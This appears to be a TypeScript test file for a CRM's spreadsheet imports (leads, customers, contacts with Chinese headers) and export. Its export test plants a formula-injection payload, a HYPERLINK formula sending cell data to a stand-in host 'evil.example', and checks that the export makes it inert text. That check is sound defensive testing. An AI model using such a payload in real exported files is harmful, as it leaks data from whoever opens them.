/**
 * Imports of each record type through its own BatchCreator: leads spread by the assignment rules,
 * customers with owners named by email, contacts placed under customers named in the file; and the
 * list export writing formula-like text inert.
 */
import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rows as query } from '../../platform/db/query.ts';
import { createTestApp, type TestEnv } from '../../test/harness.ts';
import { newCustomer, setupOrg, type Org } from '../customers/testOrg.ts';
import { prepare, runInline, upload, xlsx } from './testFiles.ts';

let env: TestEnv;
let org: Org;
const api = '/api/v1';

beforeAll(async () => {
  env = await createTestApp();
  org = await setupOrg(env);
});
afterAll(async () => {
  await env?.close();
});

const select = <T,>(q: ReturnType<typeof sql>) => env.db.asSystem((d) => query<T>(d, q));

describe('leads', () => {
  it('spreads owners through the assignment rules (round-robin), not all to the importer', async () => {
    const reps = [org.rep1.userId, org.rep2.userId, org.rep3.userId];
    const rule = await org.admin.client.post(`${api}/assignment-rules`, { name: '展会线索轮流分配', target: { kind: 'roundRobin', userIds: reps } });
    expect(rule.statusCode, rule.body).toBe(201);
    const file = await xlsx(['姓名', '手机', '来源'], Array.from({ length: 9 }, (_, i) => [`轮${i}`, `1360013${String(6000 + i)}`, '转介绍']));
    const { id } = await prepare(org.manager.client, 'lead', file, { 姓名: 'name', 手机: 'mobile', 来源: 'source' });
    expect((await runInline(env, org.manager.client, org.admin.tenantId, id)).counts.created).toBe(9);
    const owners = await select<{ owner_id: string; n: number; source: string }>(sql`SELECT owner_id, source, count(*)::int AS n FROM leads
      WHERE tenant_id = ${org.admin.tenantId} AND name LIKE '轮%' GROUP BY owner_id, source ORDER BY owner_id`);
    expect(owners.map((o) => Number(o.n))).toEqual([3, 3, 3]);
    expect(owners.map((o) => o.owner_id).sort()).toEqual([...reps].sort());
    expect(owners.every((o) => o.source === 'referral')).toBe(true); // 转介绍, by its Chinese label
    expect((await org.admin.client.delete(`${api}/assignment-rules/${rule.json().id}`)).statusCode).toBe(204);
  });
});

describe('customers', () => {
  it('imports customers with owners named by email, grades by label, and skips an existing name', async () => {
    await newCustomer(org.admin.client, { name: '已存在的客户有限公司' });
    const rep2Email = (await select<{ email: string }>(sql`SELECT email FROM users WHERE id = ${org.rep2.userId}`))[0]!.email;
    const file = await xlsx(['客户名称', '客户级别', '电话', '行业', '标签', '健康度', '负责人邮箱'], [
      ['东方精工有限公司', '重点客户', '0571-88886666', '制造业', '展会，重点', 80, rep2Email.toUpperCase()],
      ['已存在的客户有限公司', 'B', null, null, null, null, null],
      ['南方贸易', 'C', null, null, null, 55.5, null],
    ], { title: '客户名单（2026）' });
    const up = (await upload(org.admin.client, 'customer', '客户.xlsx', file)).json();
    expect(up.mapping).toMatchObject({ 客户名称: 'name', 客户级别: 'grade', 电话: 'phone', 行业: 'industry', 标签: 'tags' });
    const { id } = await prepare(org.admin.client, 'customer', file, { ...up.mapping, 健康度: 'healthScore', 负责人邮箱: 'ownerId' });
    const done = await runInline(env, org.admin.client, org.admin.tenantId, id);
    expect(done.counts).toEqual({ created: 1, updated: 0, skipped: 1, rejected: 1 });
    const [made] = await select<{ grade: string; tags: string[]; owner_id: string; health_score: number; source: string }>(sql`SELECT grade, tags, owner_id, health_score, source
      FROM customers WHERE tenant_id = ${org.admin.tenantId} AND name = '东方精工有限公司'`);
    expect(made).toMatchObject({ grade: 'A', tags: ['展会', '重点'], owner_id: org.rep2.userId, health_score: 80, source: 'import' });
    const errors = (await org.admin.client.get(`${api}/imports/${id}/errors`)).json().items;
    expect(errors).toEqual([{ rowNumber: 5, column: '健康度', message: expect.stringContaining('whole number') }]);
  });
});

describe('contacts', () => {
  it('places contacts under customers named in the file, with booleans, options and Excel dates', async () => {
    await newCustomer(org.admin.client, { name: '华东贸易有限公司' });
    const file = await xlsx(['姓名', '公司名称', '手机', '决策角色', '关键决策人', '生日'], [
      ['周一', '华东贸易有限公司', 13300133001, '决策人', '是', new Date(Date.UTC(1985, 4, 20))],
      ['周二', '华东贸易(中国)有限公司', 13300133002, 'Finance', '否', 31187],
      ['周三', '不存在的公司', 13300133003, null, null, null],
    ]);
    const up = (await upload(org.admin.client, 'contact', '联系人.csv.xlsx', file)).json();
    expect(up.mapping).toMatchObject({ 姓名: 'name', 公司名称: 'customerId', 手机: 'mobile' });
    const { id } = await prepare(org.admin.client, 'contact', file, { ...up.mapping, 决策角色: 'decisionRole', 关键决策人: 'isKeyDecisionMaker', 生日: 'birthday' });
    const done = await runInline(env, org.admin.client, org.admin.tenantId, id);
    expect(done.counts).toMatchObject({ created: 2, rejected: 1 });
    const made = await select<{ name: string; customer: string; decision_role: string; is_key_decision_maker: boolean; birthday: string }>(sql`SELECT k.name, c.name AS customer,
        k.decision_role, k.is_key_decision_maker, to_char(k.birthday, 'YYYY-MM-DD') AS birthday
      FROM contacts k JOIN customers c ON c.id = k.customer_id WHERE k.tenant_id = ${org.admin.tenantId} AND k.name LIKE '周%' ORDER BY k.name`);
    expect(made).toEqual([
      { name: '周一', customer: '华东贸易有限公司', decision_role: 'decisionMaker', is_key_decision_maker: true, birthday: '1985-05-20' },
      { name: '周二', customer: '华东贸易有限公司', decision_role: 'finance', is_key_decision_maker: false, birthday: '1985-05-20' },
    ]);
    const errors = (await org.admin.client.get(`${api}/imports/${id}/errors`)).json().items;
    expect(errors).toEqual([{ rowNumber: 4, column: '公司名称', message: expect.stringContaining('不存在的公司') }]);
  });
});

describe('export', () => {
  it('writes a formula-like cell as inert text in the exported workbook', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")';
    await newCustomer(org.admin.client, { name: '公式测试客户', remark: evil, phone: '+86 138-0013-8000' });
    const res = await org.admin.client.get(`${api}/customers/export.xlsx?columns=name,remark,phone&q=${encodeURIComponent('公式测试')}`);
    expect(res.statusCode, res.body).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const row = wb.worksheets[0]!.getRow(2);
    expect(row.getCell(1).value).toBe('公式测试客户');
    expect(row.getCell(2).value).toBe(`'${evil}`);
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(3).value).toBe('+8613800138000'); // a phone number has nothing to run: no apostrophe
  });
});
